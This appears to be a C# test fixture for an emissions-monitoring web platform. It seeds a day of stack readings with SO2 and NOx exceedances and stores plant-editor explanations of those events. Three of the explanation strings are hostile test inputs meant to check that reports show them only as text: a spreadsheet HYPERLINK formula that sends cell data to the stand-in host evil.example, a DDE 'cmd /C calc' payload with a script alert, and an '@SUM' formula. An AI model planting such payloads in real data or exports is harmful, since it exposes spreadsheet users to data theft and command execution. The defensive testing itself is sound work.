using System.Net;
using Calcine.Domain.Cems;
using Calcine.Domain.Cems.Processing;
using Calcine.Storage.Cems;
using Calcine.Web.Tests.Platform;
using Microsoft.EntityFrameworkCore;

namespace Calcine.Web.Tests.StackReports;

/// <summary>The demo platform with a day of stored minutes on every demo plant's stack (2025-03-10
/// local: an SO2 episode above the ULE target from 10:00 to 13:00, NOx above GB 4915 from 15:00 to
/// 16:00), the plant editor's explanations of NR-01's events written through the API — texts a
/// spreadsheet would run as formulas — and one explanation whose event no longer exists.</summary>
public class StackReportsFixture : IAsyncLifetime
{
    /// <summary>2025-03-10 local (+08:00).</summary>
    public static readonly DateTime DayStartUtc = new(2025, 3, 9, 16, 0, 0, DateTimeKind.Utc);

    public static readonly DateTime So2EventStartUtc = DayStartUtc.AddHours(10);
    public static readonly DateTime NoxEventStartUtc = DayStartUtc.AddHours(15);

    /// <summary>What a spreadsheet would run: the reports must show it as text.</summary>
    public const string So2Explanation = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Raw mill stop\")";
    public const string NoxExplanation = "+cmd|' /C calc'!A0 <script>alert(1)</script>";
    public const string UnmatchedExplanation = "@SUM(1,1) explained an event that late data removed";

    /// <summary>Stack id by plant code.</summary>
    public Dictionary<string, int> StackIds { get; } = [];

    /// <summary>The demo host this fixture runs (SQLite or PostgreSQL).</summary>
    public DemoPlatformFixture Demo { get; private set; } = null!;

    protected virtual DemoPlatformFixture CreateDemo() => new();

    public async Task InitializeAsync()
    {
        var demo = Demo = CreateDemo();
        await demo.InitializeAsync();
        await using var db = demo.Database.CreateContext();
        foreach (var s in await db.Stacks.AsNoTracking().Where(s => s.PlantId != null).Select(s => new { s.Id, s.PlantCode }).ToListAsync())
        {
            StackIds[s.PlantCode!] = s.Id;
        }

        var rows = new List<CemsMinuteEntity>();
        foreach (var id in StackIds.Values)
        {
            for (var m = 0; m < 1440; m++)
            {
                var hour = m / 60;
                rows.Add(Row(id, DayStartUtc.AddMinutes(m), so2: hour is >= 10 and < 13 ? 50 + (m % 7) : 20, nox: hour == 15 ? 450 : 40));
            }
        }

        db.CemsMinutes.AddRange(rows);
        await db.SaveChangesAsync();

        using var editor = await demo.SignedInAsync("plant-editor");
        await ExplainAsync(editor, "so2", So2EventStartUtc, So2Explanation);
        await ExplainAsync(editor, "nox", NoxEventStartUtc, NoxExplanation);
        // Written when an event started at 05:00; late data has since removed it.
        db.ExceedanceExplanations.Add(new ExceedanceExplanationEntity
        {
            StackId = StackIds["NR-01"],
            PlantId = demo.PlantIds["NR-01"],
            Pollutant = "so2",
            EventStartUtc = DayStartUtc.AddHours(5),
            Text = UnmatchedExplanation,
            UpdatedById = "seed",
            UpdatedByName = "plant.editor",
            UpdatedUtc = new DateTimeOffset(2025, 3, 11, 8, 0, 0, TimeSpan.Zero),
        });
        await db.SaveChangesAsync();
    }

    public Task DisposeAsync() => Demo.DisposeAsync();

    public Task<PlatformClient> SignedInAsync(string role) => Demo.SignedInAsync(role);

    /// <summary>A signed-in caller with a long timeout: a PDF is printed by a browser on a busy machine.</summary>
    public async Task<HttpClient> PatientClientAsync(string role)
    {
        return new HttpClient(new HttpClientHandler { CookieContainer = await Demo.SessionCookiesAsync(role), AllowAutoRedirect = false })
        {
            BaseAddress = Demo.Platform.BaseAddress,
            Timeout = TimeSpan.FromMinutes(3),
        };
    }

    private async Task ExplainAsync(PlatformClient editor, string pollutant, DateTime startUtc, string text)
    {
        var start = startUtc.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", System.Globalization.CultureInfo.InvariantCulture);
        using var response = await editor.SendAsync(HttpMethod.Put, $"api/stacks/{StackIds["NR-01"]}/exceedances/{pollutant}/{start}/explanation", new { text });
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    private static CemsMinuteEntity Row(int stackId, DateTime utc, double so2, double nox) => new()
    {
        StackId = stackId,
        MinuteUtc = utc,
        SourceCn = 2051,
        // O2 at 10 % is the reference: the corrected values are the measured ones.
        Data = MinuteRecordCodec.Encode([
            new(MinuteChannel.O2, DataFlag.N, 10), new(MinuteChannel.Pm, DataFlag.N, 4),
            new(MinuteChannel.So2, DataFlag.N, so2), new(MinuteChannel.Nox, DataFlag.N, nox)]),
    };
}

/// <summary>The same stored data on PostgreSQL.</summary>
public sealed class PostgresStackReportsFixture : StackReportsFixture
{
    protected override DemoPlatformFixture CreateDemo() => new PostgresDemoPlatformFixture();
}

/// <summary>One seeded host per provider, shared by the stack report test classes.</summary>
[CollectionDefinition(Name)]
public sealed class StackReportsOnSqlite : ICollectionFixture<StackReportsFixture>
{
    public const string Name = "Stack reports on SQLite";
}

[CollectionDefinition(Name)]
public sealed class StackReportsOnPostgres : ICollectionFixture<PostgresStackReportsFixture>
{
    public const string Name = "Stack reports on PostgreSQL";
}
